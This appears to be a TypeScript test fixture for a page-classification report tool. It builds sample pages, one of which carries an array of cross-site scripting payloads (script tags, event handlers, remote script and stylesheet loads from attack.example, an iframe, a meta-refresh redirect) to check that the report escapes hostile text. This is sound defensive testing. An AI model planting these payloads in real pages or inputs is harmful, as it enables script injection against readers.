import type { ReportData } from '../../../src/cli/report/report-data';
import type { ScoredPage } from '../../../src/training/scored-page';

export const LABELS = ['article', 'navigation', 'promo'];

/** What a page could try on whoever reads the report. */
export const ATTACKS = [
  '<script>window.attacked = 1</script>', '<img src=x onerror="window.attacked = 2">', '"><svg onload=window.attacked=3>', "'-->]]></style></title><script src=https://attack.example/x.js></script>",
  '<link rel=stylesheet href=https://attack.example/x.css><base href=https://attack.example/>', '&lt;b&gt; stays as it is', '</details></section><iframe src="https://attack.example/"></iframe>', '<meta http-equiv=refresh content="0;url=https://attack.example/">',
];

/** A page from a line a block: label (-1 for none), what it is taken for, confidence, text. */
export function pageOf(name: string, ...blocks: readonly [gold: number, got: number, confidence: number, text: string][]): ScoredPage {
  return {
    gold: Int8Array.from(blocks, ([gold]) => gold),
    scores: Float64Array.from(blocks.flatMap(([, got, confidence]) => LABELS.map((_, l) => (l === got ? confidence : (1 - confidence) / (LABELS.length - 1))))),
    content: new Float64Array(blocks.length),
    page: { name, site: `${name}.example`, texts: blocks.map(([, , , text]) => text), hidden: new Uint8Array(blocks.length) },
  };
}

const long = (count: number, got = 0): [number, number, number, string][] => Array.from({ length: count }, (_, i) => [0, got, 0.9, `Paragraph ${i + 1}`]);

/** Two pages, one of which attacks, and measured figures without text. */
export function attackingReport(): ReportData {
  const hostile = pageOf('<b onclick=alert(1)>hostile', [1, 1, 0.8, 'Menu'], ...ATTACKS.map((text): [number, number, number, string] => [2, 0, 0.6, text]), [-1, 1, 0.5, 'A comment']);
  const calm = pageOf('calm', ...long(8), [1, 0, 0.7, 'Share this'], ...long(8), [2, 1, 0.55, 'Subscribe']);
  const { page: _, ...measured } = pageOf('', ...long(3), [0, 2, 0.9, '']);
  return {
    title: '<i>Title</i>', facts: ['One & only'], labels: LABELS,
    readings: [{ name: 'HTML', pages: [calm, hostile, measured] }, { name: 'plain text', pages: [calm] }, { name: 'nothing', pages: [] }],
    curve: [{ source: 'written pages', pages: 12, macroF1: 0.6 }, { source: 'written pages', pages: 48, macroF1: 0.7 }, { source: 'both', pages: 480, macroF1: 0.71 }],
  };
}
